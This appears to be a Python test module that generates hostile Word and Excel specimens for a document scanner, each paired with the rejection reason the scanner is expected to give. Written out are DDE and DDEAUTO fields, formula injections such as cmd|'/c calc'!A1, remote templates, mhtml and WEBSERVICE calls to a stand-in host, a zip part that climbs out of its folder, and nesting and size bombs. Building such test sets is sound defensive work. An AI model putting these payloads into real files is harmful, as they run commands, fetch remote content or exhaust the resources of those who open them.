"""Word and Excel files that call, fetch, hide, or grow when they are read."""

from functools import partial

from schemas.verdict import Reason
from tests.forms.reading.samples import WORD, deflated, docx, relations, xlsx
from tests.forms.reading.test_pictures import png
from tests.hostile.of_xml import document_of, workbook_of
from tests.hostile.specimen import AWAY, MARK, TAKEN, Ends, Specimen, Specimens, ends

_OUTSIDE = ends(Reason.EXTERNAL_REF)
_DDE = ends(Reason.DDE)
_HUGE = ends(Reason.SHEET_TOO_LARGE, Reason.TOO_LARGE)
_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_HEADER = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"


def specimens() -> Specimens:
    yield from _links()
    yield from _fields()
    yield from _long_documents()
    yield from _sheets()
    yield from _frames()


def _links() -> Specimens:
    outside = {
        "template on the web": ("attachedTemplate", AWAY + ".dotm"),
        "template on a share": ("attachedTemplate", f"\\\\127.0.0.1\\{MARK}.dotm"),
        "object": ("oleObject", AWAY),
        "frame": ("frame", AWAY),
        "sub-document": ("subDocument", AWAY),
        "altChunk outside": ("aFChunk", AWAY),
        "picture on a share": ("image", f"\\\\127.0.0.1\\{MARK}.png"),
        "an unheard-of kind": (MARK, AWAY),
        "mhtml": ("oleObject", f"mhtml:{AWAY}!x-usc:{AWAY}"),
    }
    for title, (kind, target) in outside.items():
        part = {"word/_rels/document.xml.rels": relations((kind, target, True))}
        yield _word("link", title, partial(document_of, part), _OUTSIDE)
    chunk = {
        "word/_rels/document.xml.rels": relations(("aFChunk", "a.html", False)),
        "word/a.html": f'<script src="{AWAY}"></script>'.encode(),
    }
    embedded = ends(Reason.EMBEDDED_OBJECT)
    yield _word("link", "altChunk of HTML inside", partial(document_of, chunk), embedded)
    book = {"xl/_rels/workbook.xml.rels": relations(("externalLink", AWAY, True))}
    yield Specimen("link", "workbook outside", "清单.xlsx", partial(workbook_of, book), _OUTSIDE)


def _word(family: str, title: str, make: "partial[bytes]", right: Ends) -> Specimen:
    return Specimen(family, title, "合同.docx", make, right)


def field(*codes: str) -> str:
    runs = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>"


def _fields() -> Specimens:
    codes = {
        "DDE": (("DDE cmd",), _DDE),
        "DDEAUTO, cut into letters": (tuple(" DDEAUTO cmd"), _DDE),
        "DDE in codes": ((" QUOTE 68 68 69 65 85 84 79",), _DDE),
        "INCLUDETEXT": ((f' INCLUDETEXT "{AWAY}"',), _OUTSIDE),
        "DATABASE": ((f' DATABASE \\d "{AWAY}"',), _OUTSIDE),
        "LINK": ((f" LINK Excel.Sheet {AWAY}",), _OUTSIDE),
    }
    for title, (code, right) in codes.items():
        yield _word("field", title, partial(docx, field(*code)), right)
    for part in ("header1", "footer1", "footnotes", "comments", "glossary/document"):
        content = f'<w:hdr xmlns:w="{_SPACE}">{field("DDE cmd")}</w:hdr>'.encode()
        make = partial(docx, parts={f"word/{part}.xml": content})
        yield _word("field", f"DDE in {part}", make, _DDE)
    yield _word("field", "DDE in a header without an ending", partial(_header, "word/a.bin"), _DDE)
    yield _word("field", "100,000 fields in each other", partial(_fields_in_fields, 100_000), ends(
        None, Reason.TOO_LARGE
    ))  # fmt: skip
    yield _word("field", "100,000 open fields", partial(_open_fields, 100_000), TAKEN)


def _header(part: str) -> bytes:
    """A part is what its declared type says, whatever the ending of its name."""
    content = f'<w:hdr xmlns:w="{_SPACE}">{field("DDE cmd")}</w:hdr>'.encode()
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType='
        '"application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{WORD}"/>'
        f'<Override PartName="/{part}" ContentType="{_HEADER}"/></Types>'
    )
    return document_of({"[Content_Types].xml": types.encode(), part: content})


def _fields_in_fields(count: int) -> bytes:
    begin = '<w:fldChar w:fldCharType="begin"/><w:instrText> PAGE </w:instrText>'
    end = '<w:fldChar w:fldCharType="end"/>'
    return docx(f"<w:p>{begin * count}{end * count}</w:p>")


def _open_fields(count: int) -> bytes:
    begin = '<w:fldChar w:fldCharType="begin"/>'
    return docx(f"<w:p>{begin * count}</w:p>")


def _long_documents() -> Specimens:
    deep = ends(Reason.XML_TOO_DEEP)
    large = ends(None, Reason.TOO_LARGE)
    yield _word("length", "100,000 tables in each other", partial(_tables, 100_000), deep)
    yield _word("length", "1,000,000 empty paragraphs", partial(_paragraphs, 1_000_000), large)
    yield _word("length", "3,000,000 empty runs", partial(_runs, 3_000_000), large)
    yield _word("length", "text of 60 MB", partial(_long_text, 60), large | ends(Reason.DAMAGED))
    yield _word("length", "100,000 relations", partial(_relations, 100_000), TAKEN)
    yield _word("length", "3,900 parts", partial(_parts, 3_900), TAKEN)
    yield _word("length", "5,000 parts", partial(_parts, 5_000), ends(Reason.TOO_LARGE))
    flood = {"word/media/image1.png": png(30_000, 30_000)}
    yield _word("pixels", "30,000 by 30,000 in Word", partial(docx, parts=flood), TAKEN)
    flood = {"xl/media/image1.png": png(30_000, 30_000)}
    make = partial(xlsx, parts=flood)
    yield Specimen("pixels", "30,000 by 30,000 in Excel", "清单.xlsx", make, TAKEN)


def _tables(depth: int) -> bytes:
    begin, end = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return docx(begin * depth + end * depth)


def _paragraphs(count: int) -> bytes:
    return docx("".join(f'<w:p w:rsidR="{number:08X}"/>' for number in range(count)))


def _runs(count: int) -> bytes:
    return docx(f"<w:p>{'<w:r/><w:t/><w:b/>' * (count // 3)}</w:p>")


def _long_text(mib: int) -> bytes:
    line = "".join(f"<w:p><w:t>{number:07d}{'质押' * 8}</w:t></w:p>" for number in range(mib << 14))
    return docx(line)


def _relations(count: int) -> bytes:
    each = [("hyperlink", f"https://example.com/{number}", True) for number in range(count)]
    return document_of({"word/_rels/document.xml.rels": relations(*each)})


def _parts(count: int) -> bytes:
    return docx(parts={f"word/part{number}.xml": b"<a/>" for number in range(count)})


def _sheets() -> Specimens:
    far = {
        "two cells, A1 and XFD1048576": '<row r="1"><c r="A1"/></row>'
        '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>',
        "two cells, the second in a wrapping": '<row r="1"><c r="A1"><v>1</v></c></row>'
        '<row r="1048576"><x><c r="XFD1048576"><v>1</v></c></x></row>',
        "a column beyond the last": '<row><c r="A1"/></row><row><c r="ZZZ1"/></row>',
        "a row beyond the last": '<row r="1"><c r="A1"/></row>'
        '<row r="9999999"><c r="A9999999"/></row>',
        "cells without places behind a far row": '<row r="1"><c/></row><row r="1048575">'
        + "<c/>" * 500 + "</row>",
    }  # fmt: skip
    for title, rows in far.items():
        yield _excel("sheet", title, partial(xlsx, rows), _HUGE)
    yield _excel("sheet", "a sheet outside its folder", partial(_sheet_elsewhere), _HUGE)
    yield _excel("sheet", "a string of 1 MB used 12,000 times", partial(_strings, 1, 12_000), _HUGE)
    yield _excel("sheet", "a string of 8 MB used 40 times", partial(_strings, 8, 40), _HUGE)
    yield _excel("sheet", "1,500,000 cells", partial(_cells, 1_500_000), ends(None, *_HUGE))
    yield _excel("sheet", "1,000,000 empty rows", partial(_rows, 1_000_000), ends(None, *_HUGE))
    yield _excel("sheet", "1,000,000 strings, none used", partial(_unused, 1_000_000), ends(
        None, *_HUGE
    ))  # fmt: skip
    for program in ("cmd|'/c calc'!A1", "MSEXCEL|'\\..\\cmd'!A1"):
        rows = f'<row r="1"><c r="A1"><f>{program}</f><v>1</v></c></row>'
        yield _excel("sheet", f"formula {program}", partial(xlsx, rows), _DDE)
    for code in ("WEBSERVICE", "HYPERLINK", "IMPORTXML"):
        rows = f'<row r="1"><c r="A1"><f>{code}("{AWAY}")</f><v>1</v></c></row>'
        yield _excel("sheet", f"formula {code}", partial(xlsx, rows), ends(Reason.FORMULA))


def _excel(family: str, title: str, make: "partial[bytes]", right: Ends) -> Specimen:
    return Specimen(family, title, "清单.xlsx", make, right)


def _sheet_elsewhere() -> bytes:
    rows = '<row r="1"><c r="A1"/></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    space = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<worksheet xmlns="{space}"><sheetData>{rows}</sheetData></worksheet>'
    related = relations(("worksheet", "/tables/sheet9.xml", False))
    parts = {"tables/sheet9.xml": sheet.encode(), "xl/_rels/workbook.xml.rels": related}
    return xlsx(parts=parts)


def _strings(mib: int, cells: int) -> bytes:
    text = "".join(f"{number:07x}质" for number in range((mib << 20) // 10))
    used = "".join(f'<c r="A{n}" t="s"><v>0</v></c>' for n in range(1, cells + 1))
    shared = f"<sst><si><t>{text}</t></si></sst>".encode()
    return xlsx(f'<row r="1">{used}</row>', parts={"xl/sharedStrings.xml": shared})


def _cells(count: int) -> bytes:
    """A few columns, so that the rectangle is no larger than the cells are many."""
    rows = "".join(
        f'<row r="{row}">'
        + "".join(f'<c r="{c}{row}"><v>{row}</v></c>' for c in "ABCDE")
        + "</row>"
        for row in range(1, count // 5 + 1)
    )
    return xlsx(rows)


def _rows(count: int) -> bytes:
    return xlsx("".join(f'<row r="{row}"/>' for row in range(1, count + 1)))


def _unused(count: int) -> bytes:
    strings = "".join(f"<si><t>{number}</t></si>" for number in range(count))
    return xlsx(parts={"xl/sharedStrings.xml": f"<sst>{strings}</sst>".encode()})


def _frames() -> Specimens:
    mismatch = ends(Reason.TYPE_MISMATCH)
    yield _word("frame", "workbook of that name", partial(xlsx), mismatch)
    yield _excel("frame", "document of that name", partial(docx), mismatch)
    yield _word("frame", "cut in half", partial(_half), ends(Reason.DAMAGED, Reason.NOT_OOXML))
    yield _word("frame", "macros by type", partial(docx, kind=_macro()), ends(Reason.MACRO))
    hidden = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    yield _word("frame", "macros by part", partial(docx, parts=hidden), ends(Reason.MACRO))
    locked = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
    yield _word("frame", "locked", partial(bytes, locked), ends(Reason.ENCRYPTED))
    plain = partial(deflated, {"a": b"1"})
    yield _word("frame", "an archive of something else", plain, ends(Reason.NOT_OOXML))
    escape = {f"../{MARK}.xml": b"<a/>"}
    yield _word(
        "frame", "a part that climbs out", partial(docx, parts=escape), ends(Reason.DAMAGED)
    )


def _half() -> bytes:
    whole = docx()
    return whole[: len(whole) // 2]


def _macro() -> str:
    return WORD.replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document",
        "vnd.ms-word.document.macroEnabled",
    )
